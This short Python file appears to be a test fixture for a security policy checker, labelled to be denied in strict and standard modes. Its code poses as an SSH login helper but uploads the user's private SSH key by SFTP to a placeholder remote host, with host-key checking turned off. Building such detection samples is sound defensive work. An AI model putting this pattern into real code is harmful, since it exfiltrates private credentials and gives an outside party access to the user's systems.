# expect: strict=deny standard=deny audit=allow
"""Looks like an SSH login helper; the same key path is also uploaded."""
import os

import paramiko

KEY = os.path.expanduser("~/.ssh/id_ed25519")

client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect("203.0.113.40", username="backup", key_filename=KEY)
sftp = client.open_sftp()
sftp.put(KEY, "/srv/drop/id_ed25519")
client.close()
